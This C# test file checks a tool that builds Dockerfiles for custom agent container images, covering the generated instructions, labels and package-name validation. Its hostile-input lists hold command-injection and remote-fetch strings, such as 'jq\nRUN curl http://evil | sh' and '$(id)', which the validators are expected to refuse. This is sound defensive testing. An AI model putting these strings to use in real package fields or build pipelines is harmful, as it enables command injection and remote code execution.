using ClaudeHooks.Containers;

namespace ClaudeHooks.Tests.Containers;

public sealed class CustomImageTests
{
    private static readonly BaseImageFacts AsBuilt = new("claude", HasHealthcheck: true, ClaudeCodeVersion: "2.1.330");

    private static CustomImage Image(string stack = "base", string[]? apt = null, string[]? npm = null, string[]? pip = null, string name = "web-tools") =>
        new(name, stack, apt ?? [], npm ?? [], pip ?? []);

    [Fact]
    public void Dockerfile_AptOnly_InstallsInTheOneStageAndEndsAsClaude()
    {
        var image = Image(apt: ["jq", "libfoo1=1:2.3~rc1-1"]);

        var dockerfile = image.Dockerfile();
        var instructions = DockerfileAuditor.Instructions(dockerfile).ToList();

        Assert.Equal("claude-hooks/custom-web-tools:latest", image.Tag);
        Assert.Equal(["FROM", "USER", "RUN", "LABEL", "USER"], instructions.Select(i => i.Keyword));
        Assert.Equal("claude-hooks/agent-base:latest", instructions[0].Arguments);
        Assert.Contains("apt-get install -y --no-install-recommends 'jq' 'libfoo1=1:2.3~rc1-1'", instructions[2].Arguments, StringComparison.Ordinal);
        Assert.Contains("rm -rf /var/lib/apt/lists/*", instructions[2].Arguments, StringComparison.Ordinal);
        Assert.Equal("claude", instructions[^1].Arguments);
        Assert.DoesNotContain("extra-ca", dockerfile, StringComparison.Ordinal);
    }

    [Fact]
    public void Dockerfile_LabelsNameTheImageTheStackAndThePackages()
    {
        var label = DockerfileAuditor.Instructions(Image("node", apt: ["jq", "git-lfs"], npm: ["typescript@5.4.5", "@types/node"]).Dockerfile()).Single(i => i.Keyword == "LABEL").Arguments;

        Assert.Contains("org.claude-hooks.image=\"custom-web-tools\"", label, StringComparison.Ordinal);
        Assert.Contains("org.claude-hooks.custom.from=\"node\"", label, StringComparison.Ordinal);
        Assert.Contains("org.claude-hooks.custom.apt=\"jq git-lfs\"", label, StringComparison.Ordinal);
        Assert.Contains("org.claude-hooks.custom.npm=\"typescript@5.4.5 @types/node\"", label, StringComparison.Ordinal);
        Assert.Contains("org.claude-hooks.custom.pip=\"\"", label, StringComparison.Ordinal);
    }

    [Fact]
    public void Dockerfile_Npm_InstallsInAFirstStageThatAloneTrustsTheCaBundle()
    {
        var dockerfile = Image("node", apt: ["jq"], npm: ["typescript@5.4.5", "@scope/tool"]).Dockerfile();
        var final = dockerfile[dockerfile.LastIndexOf("\nFROM ", StringComparison.Ordinal)..];
        var first = dockerfile[..dockerfile.LastIndexOf("\nFROM ", StringComparison.Ordinal)];

        Assert.Contains("FROM claude-hooks/agent-node:latest AS packages", first, StringComparison.Ordinal);
        Assert.Contains("COPY extra-ca/ /tmp/extra-ca/", first, StringComparison.Ordinal);
        Assert.Contains("npm install --global --prefix /opt/claude-hooks-custom/npm/usr/local --cafile /tmp/ca-bundle.crt", first, StringComparison.Ordinal);
        Assert.Contains("'typescript@5.4.5' '@scope/tool'", first, StringComparison.Ordinal);
        Assert.StartsWith("\nFROM claude-hooks/agent-node:latest\n", final, StringComparison.Ordinal);
        Assert.Contains("COPY --from=packages /opt/claude-hooks-custom/npm/ /", final, StringComparison.Ordinal);
        Assert.DoesNotContain("extra-ca", final, StringComparison.Ordinal);
        Assert.DoesNotContain("ca-bundle", final, StringComparison.Ordinal);
        Assert.EndsWith("USER claude\n", final, StringComparison.Ordinal);
    }

    [Fact]
    public void Dockerfile_Pip_InstallsUnderARootCopiedIntoTheFinalStage()
    {
        var dockerfile = Image("python", pip: ["requests[socks]==2.32.3", "pytest-cov"]).Dockerfile();
        var final = dockerfile[dockerfile.LastIndexOf("\nFROM ", StringComparison.Ordinal)..];

        Assert.Contains("python3 -m pip install --root /opt/claude-hooks-custom/pip --cert /tmp/ca-bundle.crt", dockerfile, StringComparison.Ordinal);
        Assert.Contains("'requests[socks]==2.32.3' 'pytest-cov'", dockerfile, StringComparison.Ordinal);
        Assert.Contains("COPY --from=packages /opt/claude-hooks-custom/pip/ /", final, StringComparison.Ordinal);
        Assert.DoesNotContain("extra-ca", final, StringComparison.Ordinal);
        Assert.DoesNotContain("USER root", final, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("base", "jq", "", "")]
    [InlineData("node", "", "typescript", "")]
    [InlineData("browser", "jq", "@playwright/test@1.48.0", "")]
    [InlineData("python", "sqlite3", "", "requests==2.32.3")]
    [InlineData("dotnet", "zip unzip", "", "")]
    public void Dockerfile_PassesTheDerivedImageAudit_OnTheStackAsBuilt(string stack, string apt, string npm, string pip)
    {
        var image = Image(stack, List(apt), List(npm), List(pip));
        var asked = new List<string>();

        Assert.Empty(image.Validate());
        Assert.Empty(DockerfileAuditor.Audit(image.Dockerfile(), "Dockerfile", name =>
        {
            asked.Add(name);
            return AsBuilt;
        }));
        Assert.Equal([image.BaseImage], asked);
    }

    private static string[] List(string packages) => packages.Split(' ', StringSplitOptions.RemoveEmptyEntries);

    [Theory]
    [InlineData("jq")]
    [InlineData("g++")]
    [InlineData("libstdc++6")]
    [InlineData("python3.11")]
    [InlineData("jq=1.6-2.1")]
    [InlineData("libfoo1=1:2.3~rc1+deb12u1")]
    public void Validate_DebianPackage_IsAccepted(string package) => Assert.Empty(Image(apt: [package]).Validate());

    [Theory]
    [InlineData("typescript")]
    [InlineData("typescript@5.4.5")]
    [InlineData("@types/node")]
    [InlineData("@scope/name@^1.2.0")]
    [InlineData("lodash.merge@latest")]
    [InlineData("x")]
    public void Validate_NpmPackage_IsAccepted(string package) => Assert.Empty(Image("node", npm: [package]).Validate());

    [Theory]
    [InlineData("requests")]
    [InlineData("requests==2.32.3")]
    [InlineData("requests[socks,security]==2.32.3")]
    [InlineData("zope.interface")]
    [InlineData("Django==5.0.1")]
    [InlineData("ruff==0.5.0rc1")]
    public void Validate_PipPackage_IsAccepted(string package) => Assert.Empty(Image("python", pip: [package]).Validate());

    public static TheoryData<string> Hostile() =>
    [
        "foo; curl x|sh",
        "--index-url=http://evil",
        "-i",
        "$(id)",
        "`id`",
        "${HOME}",
        "jq\nRUN curl http://evil | sh",
        "jq\n",
        "jq\r",
        "jq ",
        " jq",
        "jq && id",
        "jq'",
        "jq\"",
        "jq\\",
        "a|b",
        "a>b",
        "a<b",
        "a&b",
        "../etc",
        "./local",
        "/abs/path",
        "~/pkg",
        "http://evil/x.tgz",
        "https://evil/x.whl",
        "git+https://evil/x.git",
        "file:///tmp/x",
        "",
        "Jq\u0000",
        new string('a', 215),
    ];

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Validate_HostileDebianPackage_IsRefusedNamingTheFlag(string package) =>
        Assert.Contains(Image(apt: [package]).Validate(), e => e.StartsWith("--apt ", StringComparison.Ordinal) && e.Contains("not a Debian package name", StringComparison.Ordinal));

    [Theory]
    [MemberData(nameof(Hostile))]
    [InlineData("foo@npm:bar")]
    [InlineData("foo@git+ssh://evil")]
    [InlineData("foo@file:../x")]
    [InlineData("user/repo")]
    [InlineData("@scope")]
    [InlineData("Upper")]
    [InlineData(".hidden")]
    [InlineData("_private")]
    [InlineData("foo@1.0 || 2.0")]
    public void Validate_HostileNpmPackage_IsRefusedNamingTheFlag(string package) =>
        Assert.Contains(Image("node", npm: [package]).Validate(), e => e.StartsWith("--npm ", StringComparison.Ordinal) && e.Contains("not an npm package name", StringComparison.Ordinal));

    [Theory]
    [MemberData(nameof(Hostile))]
    [InlineData("name @ https://evil/x.whl")]
    [InlineData("name@https://evil/x.whl")]
    [InlineData("requests>=2")]
    [InlineData("requests;python_version<'3.8'")]
    [InlineData("-r requirements.txt")]
    [InlineData("-e .")]
    [InlineData("requests[socks")]
    [InlineData("requests==")]
    public void Validate_HostilePipPackage_IsRefusedNamingTheFlag(string package) =>
        Assert.Contains(Image("python", pip: [package]).Validate(), e => e.StartsWith("--pip ", StringComparison.Ordinal) && e.Contains("not a pip requirement", StringComparison.Ordinal));

    [Fact]
    public void Validate_HostileValue_IsShownEscapedOnOneLine()
    {
        var error = Assert.Single(Image(apt: ["jq\nRUN curl http://evil | sh"]).Validate());

        Assert.StartsWith("--apt \"jq\\nRUN curl http://evil | sh\" is not a Debian package name;", error, StringComparison.Ordinal);
        Assert.DoesNotContain('\n', error);
    }

    [Theory]
    [InlineData("Web")]
    [InlineData("1web")]
    [InlineData("-web")]
    [InlineData("web_tools")]
    [InlineData("web tools")]
    [InlineData("web/tools")]
    [InlineData("web:tools")]
    [InlineData("web\n")]
    [InlineData("")]
    [InlineData("a234567890123456789012345678901234567890x")]
    public void Validate_BadName_IsRefusedWithTheRule(string name) =>
        Assert.Contains(Image(apt: ["jq"], name: name).Validate(), e => e.StartsWith("NAME ", StringComparison.Ordinal) && e.Contains("use 1 to 40 lowercase letters, digits and '-', starting with a letter", StringComparison.Ordinal));

    [Theory]
    [InlineData("w")]
    [InlineData("web-tools-2")]
    [InlineData("a23456789012345678901234567890123456789x")]
    public void Validate_GoodName_IsAccepted(string name) => Assert.Empty(Image(apt: ["jq"], name: name).Validate());

    [Fact]
    public void Validate_UnknownStack_ListsTheStacks() =>
        Assert.Equal(["--from \"rust\" is not a stack; use one of base, node, python, dotnet, browser"], Image("rust", apt: ["jq"]).Validate());

    [Fact]
    public void Validate_NoPackage_SaysWhichFlagsAddOne() =>
        Assert.Equal(["nothing to install; pass at least one package with --apt, --npm or --pip"], Image().Validate());

    [Theory]
    [InlineData("base")]
    [InlineData("python")]
    [InlineData("dotnet")]
    public void Validate_NpmOnAStackWithoutNpm_NamesTheStacksThatHaveIt(string stack) =>
        Assert.Equal([$"--npm needs npm, which the {stack} stack does not have; use --from node or --from browser, or install it with --apt"], Image(stack, npm: ["typescript"]).Validate());

    [Theory]
    [InlineData("base")]
    [InlineData("node")]
    [InlineData("browser")]
    public void Validate_PipOnAStackWithoutPip_NamesThePythonStack(string stack) =>
        Assert.Contains(Image(stack, pip: ["requests"]).Validate(), e => e.StartsWith($"--pip needs pip, which the {stack} stack does not have; use --from python", StringComparison.Ordinal));

    [Fact]
    public void Validate_ReportsEveryProblemAtOnce()
    {
        var errors = Image("rust", apt: ["$(id)"], npm: ["`id`"], pip: ["-r x"], name: "Bad").Validate();

        Assert.Equal(5, errors.Count);
        Assert.Equal(["NAME", "--from", "--apt", "--npm", "--pip"], errors.Select(e => e.Split(' ')[0]));
    }
}
